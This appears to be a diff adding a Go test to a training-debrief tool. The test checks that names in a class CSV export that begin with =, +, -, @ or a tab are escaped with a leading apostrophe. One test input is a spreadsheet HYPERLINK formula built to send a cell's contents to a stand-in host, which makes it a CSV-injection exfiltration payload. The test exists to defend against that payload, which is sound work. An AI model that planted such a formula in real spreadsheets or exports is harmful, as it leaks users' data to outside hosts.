@@ -250,3 +250,35 @@ func TestHTML(t *testing.T) {
 		}
 	}
 }
+
+// TestClassCSVNamesAreText: a trainee names themselves, and the instructor
+// opens the class's table in a spreadsheet: a name that would begin a
+// formula is written as text, after an apostrophe; any other name as typed.
+func TestClassCSVNamesAreText(t *testing.T) {
+	sc := scenariotest.Shipped(t)
+	for _, tc := range []struct{ trainee, want string }{
+		{`=HYPERLINK("http://example.org/?x="&A1,"click")`, `'=HYPERLINK("http://example.org/?x="&A1,"click")`},
+		{"+1 555", "'+1 555"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"Ana = Bea", "Ana = Bea"},
+		{"Zoë", "Zoë"},
+	} {
+		d := build(t, sc, record(t, sc, "competent", tc.trainee, 3, 4))
+		var buf bytes.Buffer
+		if err := debrief.WriteClassCSV(&buf, []*debrief.Debrief{d}, []string{"=run.jsonl"}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := rows[1][1]; got != tc.want {
+			t.Errorf("trainee %q is written %q, want %q", tc.trainee, got, tc.want)
+		}
+		if got := rows[1][0]; got != "'=run.jsonl" {
+			t.Errorf("the run's name is written %q", got)
+		}
+	}
+}
